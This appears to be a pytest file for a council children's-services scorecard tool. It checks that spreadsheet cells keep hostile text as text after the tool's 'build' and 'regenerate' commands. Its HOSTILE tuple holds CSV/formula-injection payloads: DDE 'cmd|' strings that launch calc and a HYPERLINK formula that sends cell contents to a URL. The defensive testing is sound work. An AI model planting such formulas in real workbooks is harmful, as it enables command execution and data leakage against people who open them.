"""What a council types is text in everything we write, whatever it begins with and however long it is."""

from __future__ import annotations

import html
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from lxml import etree
from openpyxl import Workbook, load_workbook
from tests.regenerate.council_workbook import MONTHS
from tests.tools.workbooks import DEFINED, definition

from cpp_scorecard.cli import main

LONGEST = 32_767
HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=1+1}",
    "=" + "9" * (LONGEST - 1),
)
_CHILDREN = ("CHILD", "SEX", "DOB", "ETHNIC", "UASC")
_EPISODES = ("CHILD", "DECOM", "RNE", "LS", "CIN", "PLACE", "DEC", "REC")


@pytest.fixture(params=range(len(HOSTILE)), ids=["dde", "link", "plus", "minus", "at", "array", "longest"])
def text(request: pytest.FixtureRequest) -> str:
    return HOSTILE[request.param]


@pytest.fixture
def workbook(text: str, tmp_path: Path) -> Path:
    """A workbook with the text wherever a council types one."""
    book = Workbook()
    sheets: dict[str, list[Any]] = {
        "Definitions": [DEFINED, definition(text, domain=text, low=10, high=20), definition("Visits", domain=text)],
        "Figures": [("Indicator", *MONTHS), (text, 11, 12, 13, 4), ("Visits", 3, 4, 5, 6)],
        "Words": [("Indicator", "Text"), (text, text)],
        "Themes": [("Highlight theme", "Ref", "Indicator", "Key figure"), (text, None, text, "yes")],
        "Texts": [
            ("Highlight theme", "Period", "What does the performance tell us this month?",
             "How does it compare to last month?", "Officer"),
            (text, "Dec-21", text, text, text),
        ],
        "Children": [_CHILDREN, (text, 1, "01/01/2010", text, 0)],
        "Episodes": [_EPISODES, (text, "01/04/2021", "S", text, "N1", text, None, None)],
        "Glance": [
            ("CLA Caseload Breakdown",),
            ("Category", "Measure", "What does good look like?", "End Dec 21", "2020-21"),
            (text, text, text, 5, 6),
        ],
    }  # fmt: skip
    book.remove(book.worksheets[0])
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for number, row in enumerate(rows, 1):
            for column, value in enumerate(row, 1):
                cell = sheet.cell(number, column, value)
                if isinstance(value, str):
                    cell.data_type = "s"
    path = tmp_path / "indicators.xlsx"
    book.save(path)
    return path


def _formulas(path: Path) -> Iterator[str]:
    """Every formula of the sheets, of cells, rules, lists and charts."""
    with zipfile.ZipFile(io.BytesIO(path.read_bytes())) as package:
        for name in package.namelist():
            if name.endswith(".xml") and name.startswith(("xl/worksheets", "xl/charts", "xl/drawings")):
                for element in etree.fromstring(package.read(name)).iter("{*}f", "{*}formula", "{*}formula1"):
                    yield element.text or ""


def _texts(path: Path, council: set[str]) -> list[str]:
    book = load_workbook(path)
    ours = [sheet for sheet in book.worksheets if sheet.title not in council]
    assert ours
    return [
        cell.value for sheet in ours for row in sheet.iter_rows() for cell in row
        if isinstance(cell.value, str) and cell.data_type != "f"
    ]  # fmt: skip


def _is_text(path: Path, text: str, council: set[str]) -> None:
    bare = text.lstrip("=+-@{")[:60]
    for formula in _formulas(path):
        assert bare not in html.unescape(formula)
        assert not re.search(r"cmd\s*\||HYPERLINK\(\"http", formula, re.IGNORECASE)
    assert any(text[:40] in cell for cell in _texts(path, council))
    with zipfile.ZipFile(path) as package:
        assert not any("externalLink" in name for name in package.namelist())


def test_in_a_workbook_that_build_makes(workbook: Path, text: str, capsys: pytest.CaptureFixture[str]) -> None:
    made = workbook.with_name("card.xlsx")
    assert main(["build", str(workbook), "-o", str(made)]) in (0, 3), capsys.readouterr().err
    _is_text(made, text, set())


def test_in_a_workbook_that_regenerate_changes(workbook: Path, text: str, capsys: pytest.CaptureFixture[str]) -> None:
    council = set(load_workbook(workbook, read_only=True).sheetnames)
    assert main(["regenerate", str(workbook)]) in (0, 3), capsys.readouterr().err
    _is_text(workbook, text, council)
    for cell in (cell for row in load_workbook(workbook)["Words"].iter_rows() for cell in row):
        assert cell.data_type == "s"
